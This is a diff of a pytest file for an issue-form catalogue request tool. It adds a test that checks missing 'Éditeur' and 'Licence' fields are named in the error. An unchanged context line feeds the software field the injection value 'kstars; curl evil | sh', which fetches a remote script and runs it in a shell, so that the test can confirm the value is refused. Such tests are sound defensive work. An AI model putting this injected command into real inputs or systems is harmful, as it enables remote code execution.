@@ -79,3 +79,10 @@ def test_hostile_bodies_are_refused_with_their_place(catalogue_copy):
     values = issue.fields(github_body({**ANSWERS, "Logiciel (identifiant)": "kstars; curl evil | sh"}))
     with pytest.raises(SocleError, match=re.escape("--software 'kstars; curl evil | sh' is not valid")):
         request.request(values, root=catalogue_copy, today=dt.date(2026, 11, 24))
+
+
+def test_a_new_software_without_its_card_fields_names_them_as_the_form_does(catalogue_copy):
+    answers = {k: v for k, v in ANSWERS.items() if k not in ("Éditeur", "Licence")}
+    form = {key: label for label, key in issue.FIELDS.items()}
+    with pytest.raises(SocleError, match="missing in the form: « Éditeur », « Licence »"):
+        request.request(issue.fields(github_body(answers)), root=catalogue_copy, form=form)
